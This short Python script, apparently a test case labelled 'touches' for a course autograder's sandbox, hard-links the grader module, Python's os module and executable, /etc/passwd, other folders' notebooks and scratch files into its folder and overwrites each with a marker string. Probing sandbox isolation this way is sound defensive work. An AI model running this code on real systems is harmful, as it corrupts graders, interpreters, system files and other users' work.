# class: touches
# what: links files of Python and of the course into its own folder and writes through the links
import glob, graders, os, sys
targets = [graders.__file__, os.__file__, sys.executable, "/proc/self/exe", "/etc/passwd"]
targets += glob.glob("/usr/bin/python*")[:3] + glob.glob("../*/*/*.ipynb") + glob.glob("/scratch/*")
for number, target in enumerate(targets):
    try:
        os.link(target, f"linked-{number}")
        with open(f"linked-{number}", "r+b") as file:
            file.write(b"gancourse-attack")
    except OSError:
        pass
